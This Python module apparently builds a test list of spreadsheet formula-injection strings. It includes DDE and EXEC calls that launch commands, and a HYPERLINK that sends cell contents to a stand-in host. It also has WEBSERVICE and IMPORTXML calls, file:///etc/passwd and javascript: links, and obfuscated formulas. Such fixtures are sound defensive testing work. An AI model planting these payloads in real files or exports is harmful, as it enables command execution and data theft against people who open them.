"""Texts that a spreadsheet could take for a formula, a link or a field of its own."""

from __future__ import annotations

_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠",
          "'=", '"=', "=-", "=+", "==", "@@", "{=", "%0A=")
_CALLS = ("1+1", "SUM(A1:A9)", "HYPERLINK(\"http://a.example/\"&A1,\"klicka\")", "cmd|'/c calc'!A0",
          "WEBSERVICE(\"http://a.example/\")", "IMPORTXML(\"http://a.example/\",\"//a\")")
_LINKS = ("http://a.example/", "https://a.example/x?y=1", "ftp://a.example/", "ftps://a.example/", "mailto:a@a.example",
          "file:///etc/passwd", "\\\\server\\share\\a.xlsx", "internal:Sheet2!A1", "external:other.xlsx#Sheet1!A1",
          "javascript:alert(1)", "www.a.example", "news:a.example", "=IMAGE(\"http://a.example/a.png\")",
          "=DDE(\"cmd\";\"/C calc\";\"x\")", "DDE(\"cmd\")", "=EXEC(\"calc\")", "=REGISTER.ID(\"kernel32\",\"x\")",
          "_xlfn.WEBSERVICE(1)", "{=SUM(A1)}", "=1}", "=A1!B2", "=[other.xlsx]Sheet1!A1", "=LAMBDA(x,x)(1)",
          "=\u202e1+1", "\ufeff=1+1", "\u200b=1+1", "=" + "A" * 300, "=1\x001", "&=1", "<f>1+1</f>",
          "]]><f>1+1</f>", "=T(\"<hyperlink/>\")")


def payloads() -> list[str]:
    """All of them, none twice."""
    return list(dict.fromkeys([*(sign + call for sign in _SIGNS for call in _CALLS), *_LINKS]))
